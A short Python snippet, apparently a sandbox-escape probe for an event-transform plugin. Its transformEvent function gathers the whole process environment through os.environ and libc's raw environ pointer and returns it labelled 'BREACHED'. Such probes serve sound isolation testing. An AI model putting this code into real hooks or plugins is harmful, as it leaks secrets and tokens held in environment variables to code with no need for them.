# class: process
import os
import sys
import ctypes

libc = ctypes.CDLL(None, use_errno=True)


def transformEvent(event, metadata):
    block = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
    told = [dict(os.environ)]
    at = 0
    while block and block[at]:
        told.append(block[at].decode())
        at += 1
    return {"BREACHED": told} if len(told) > 1 or told[0] else {"argv": sys.argv}
